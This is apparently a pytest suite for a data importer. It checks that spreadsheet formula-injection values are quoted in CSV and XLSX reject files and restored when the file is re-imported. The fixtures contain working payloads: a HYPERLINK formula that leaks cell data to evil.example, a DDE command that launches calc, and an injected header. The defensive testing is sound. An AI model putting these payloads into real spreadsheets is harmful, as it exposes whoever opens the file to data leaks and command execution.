"""Formula injection: the neutralisation rule, its exact inverse, the reject files (CSV and
XLSX) that carry it, and the re-import that undoes it — on both backends."""

from __future__ import annotations

import json
from pathlib import Path

import polars as pl
import pyarrow as pa
import pytest
import sqlalchemy as sa
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy.engine import Engine

from rapport.ingest.importer import import_file
from rapport.ingest.spreadsheet import (
    TRIGGERS,
    neutralise,
    neutralise_arrow,
    neutralise_cell,
    neutralise_expr,
    neutralise_frame,
    unneutralise,
    unneutralise_frame,
)
from rapport.store import schema

from .test_importer import write_csv

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点我")'
CMD = "=cmd|' /C calc'!A0"

#: value → as written to a spreadsheet cell
CELLS = {
    HYPERLINK: "'" + HYPERLINK,
    CMD: "'" + CMD,
    "@SUM(1)": "'@SUM(1)",
    "+1+1": "'+1+1",
    "-1-2": "'-1-2",
    "-": "'-",
    "\t=1": "'\t=1",
    "\r=1": "'\r=1",
    "+86 138 0000 0000": "'+86 138 0000 0000",
    "+86-138-0000-0000": "'+86-138-0000-0000",
    "'=1": "''=1",  # a quote already there: one more, which the import takes off again
    "''+x": "'''+x",
    # plain numbers and everything else stay as they are
    "+8613800000000": "+8613800000000",
    "-12.50": "-12.50",
    "+12.50": "+12.50",
    "-1,234,567.89": "-1,234,567.89",
    "-.5": "-.5",
    "-1.5e-05": "-1.5e-05",
    "2024-03-05T14:30:00+08:00": "2024-03-05T14:30:00+08:00",
    "2024-03-05 14:30:00-05:00": "2024-03-05 14:30:00-05:00",
    "13800000000": "13800000000",
    "张伟": "张伟",
    "'张伟": "'张伟",
    " =1": " =1",
    "a=1": "a=1",
    "": "",
}


@pytest.mark.parametrize(("value", "cell"), CELLS.items())
def test_the_rule(value: str, cell: str) -> None:
    assert neutralise(value) == cell
    assert unneutralise(cell) == value


def test_non_text_values_are_left_alone() -> None:
    assert [neutralise_cell(v) for v in (-12.5, -3, None, True)] == [-12.5, -3, None, True]
    assert neutralise_cell("=1") == "'=1"


def test_quotes_typed_before_a_trigger_are_read_as_text_markers() -> None:
    """A file made elsewhere with the quote a spreadsheet user types reads as meant."""
    assert unneutralise("'+8613800000000") == "+8613800000000"
    assert unneutralise("'-12.50") == "-12.50"
    assert unneutralise("'abc") == "'abc"


@given(st.text(alphabet=st.sampled_from([*TRIGGERS, "'", "0", "1", ",", ".", "e", "a", " "])))
def test_unneutralise_inverts_neutralise(value: str) -> None:
    cell = neutralise(value)
    assert unneutralise(cell) == value
    assert not cell.startswith(tuple(TRIGGERS)) or cell == value  # quoted, or a plain number


def test_vectorized_forms_agree_with_the_scalar_rule() -> None:
    values = [*CELLS, None]
    expected = [None if v is None else neutralise(v) for v in values]
    frame = pl.DataFrame({"v": pl.Series(values, dtype=pl.Utf8), "n": range(len(values))})
    assert frame.select(neutralise_expr(pl.col("v")))["v"].to_list() == expected
    out = neutralise_frame(frame)
    assert out["v"].to_list() == expected and out["n"].to_list() == frame["n"].to_list()
    assert unneutralise_frame(out)["v"].to_list() == values
    table = pa.table({"v": pa.array(values), "w": pa.array(values, pa.large_string())})
    arrow = neutralise_arrow(table)
    assert arrow.schema == table.schema
    assert arrow["v"].to_pylist() == expected and arrow["w"].to_pylist() == expected


def test_frames_read_from_a_file_are_not_quoted_twice() -> None:
    frame = pl.DataFrame({"=h": ["=x"], "'=q": ["'=y"], "n": ["-1-2"]})
    out = neutralise_frame(frame, as_read=True)
    assert out.columns == ["'=h", "'=q", "n"]
    assert out.row(0) == ("'=x", "'=y", "'-1-2")


# --- reject files and the re-import --------------------------------------------------------

CUSTOMERS = [
    ["客户编号", "姓名", "手机号", "备注"],
    ["C001", "张伟", "+8613800000001", "ok"],
    ["", HYPERLINK, "+8613800000000", "@SUM(1)"],  # no key: rejected
    ["", CMD, "+8613800000002", "-1-2"],  # no key: rejected
]
ORDERS = [
    ["订单号", "客户编号", "下单时间", "实付金额", "订单状态", "币种", "备注"],
    ["SO-1", "C001", "2024-03-05T14:30:00+08:00", "-12.50", "completed", "CNY", "=1+1"],  # negative
]


def _names(engine: Engine) -> dict[str, str]:
    with engine.connect() as conn:
        rows = conn.execute(sa.select(schema.customers.c.external_id, schema.customers.c.name))
        return {key: name for key, name in rows}


def test_reject_csv_is_neutralised_and_gives_back_the_original_values(
    fresh_engine: Engine, tmp_path: Path
) -> None:
    rep = import_file("customers", write_csv(tmp_path / "c.csv", CUSTOMERS), engine=fresh_engine)
    assert (rep.inserted, rep.rejected) == (1, 2)
    assert Path(rep.reject_file).read_bytes().startswith(b"\xef\xbb\xbf")
    rejects = pl.read_csv(rep.reject_file, infer_schema=False)
    assert rejects["姓名"].to_list() == ["'" + HYPERLINK, "'" + CMD]
    assert rejects["手机号"].to_list() == ["+8613800000000", "+8613800000002"]
    assert rejects["备注"].to_list() == ["'@SUM(1)", "'-1-2"]

    # imported again unfixed: rejected again, the same cells (no second quote)
    again = import_file(
        "customers", rep.reject_file, engine=fresh_engine, reject_path=tmp_path / "r2.csv"
    )
    assert again.rejected == 2
    assert (
        pl.read_csv(again.reject_file, infer_schema=False)["姓名"].to_list()
        == rejects["姓名"].to_list()
    )

    fixed = rejects.with_columns(pl.Series("客户编号", ["C002", "C003"]))
    fixed.write_csv(tmp_path / "fixed.csv")
    done = import_file("customers", tmp_path / "fixed.csv", engine=fresh_engine)
    assert (done.inserted, done.rejected) == (2, 0)
    assert _names(fresh_engine) == {"C001": "张伟", "C002": HYPERLINK, "C003": CMD}
    with fresh_engine.connect() as conn:
        stored = conn.execute(
            sa.select(schema.customers.c.phone, schema.customers.c.extra).where(
                schema.customers.c.external_id == "C002"
            )
        ).one()
    assert stored.phone == "+8613800000000"
    extra = stored.extra if isinstance(stored.extra, dict) else json.loads(stored.extra)
    assert extra == {"备注": "@SUM(1)"}


def test_negative_amounts_and_times_with_offsets_stay_as_they_are(
    fresh_engine: Engine, tmp_path: Path
) -> None:
    import_file("customers", write_csv(tmp_path / "c.csv", CUSTOMERS[:2]), engine=fresh_engine)
    rep = import_file("orders", write_csv(tmp_path / "o.csv", ORDERS), engine=fresh_engine)
    assert rep.rejected == 1
    row = pl.read_csv(rep.reject_file, infer_schema=False).row(0, named=True)
    assert row["实付金额"] == "-12.50"
    assert row["下单时间"] == "2024-03-05T14:30:00+08:00"
    assert row["备注"] == "'=1+1"


def test_reject_xlsx_holds_text_not_formulas_and_reimports(
    fresh_engine: Engine, tmp_path: Path
) -> None:
    from openpyxl import Workbook, load_workbook

    book = Workbook()
    sheet = book.active
    for row in CUSTOMERS:
        sheet.append(row)
    for row in sheet.iter_rows():
        for cell in row:
            cell.data_type = "s"  # text cells (openpyxl would store "=…" as a formula)
    book.save(tmp_path / "c.xlsx")
    rep = import_file("customers", tmp_path / "c.xlsx", engine=fresh_engine)
    assert rep.rejected == 2 and rep.reject_file.endswith(".xlsx")

    cells = list(load_workbook(rep.reject_file).active.iter_rows(values_only=False))
    header = [c.value for c in cells[0]]
    by_name = [dict(zip(header, row, strict=True)) for row in cells[1:]]
    assert [r["姓名"].value for r in by_name] == ["'" + HYPERLINK, "'" + CMD]
    assert all(r["姓名"].data_type == "s" for r in by_name)  # text, never a formula
    assert [r["手机号"].value for r in by_name] == ["+8613800000000", "+8613800000002"]
    assert [r["备注"].value for r in by_name] == ["'@SUM(1)", "'-1-2"]

    fixed = load_workbook(rep.reject_file)
    for row, key in zip(fixed.active.iter_rows(min_row=2), ["C002", "C003"], strict=True):
        row[header.index("客户编号")].value = key
    fixed.save(tmp_path / "fixed.xlsx")
    done = import_file("customers", tmp_path / "fixed.xlsx", engine=fresh_engine)
    assert (done.inserted, done.rejected) == (2, 0)
    names = _names(fresh_engine)
    assert (names["C002"], names["C003"]) == (HYPERLINK, CMD)


def test_parquet_and_jsonl_reject_files_stay_raw(fresh_engine: Engine, tmp_path: Path) -> None:
    header, *rows = CUSTOMERS
    frame = pl.DataFrame([dict(zip(header, r, strict=True)) for r in rows])
    frame.write_parquet(tmp_path / "c.parquet")
    rep = import_file("customers", tmp_path / "c.parquet", engine=fresh_engine)
    assert pl.read_parquet(rep.reject_file)["姓名"].to_list() == [HYPERLINK, CMD]
    (tmp_path / "c.jsonl").write_text(
        "".join(json.dumps(r, ensure_ascii=False) + "\n" for r in frame.to_dicts()), "utf-8"
    )
    rep = import_file("customers", tmp_path / "c.jsonl", engine=fresh_engine)
    lines = Path(rep.reject_file).read_text("utf-8").splitlines()
    assert [json.loads(line)["姓名"] for line in lines] == [HYPERLINK, CMD]


def test_an_injected_header_is_neutralised_too(fresh_engine: Engine, tmp_path: Path) -> None:
    rows = [["客户编号", "姓名", "=evil()"], ["", "张伟", "x"]]
    rep = import_file("customers", write_csv(tmp_path / "c.csv", rows), engine=fresh_engine)
    assert pl.read_csv(rep.reject_file, infer_schema=False).columns[:3] == [
        "客户编号",
        "姓名",
        "'=evil()",
    ]
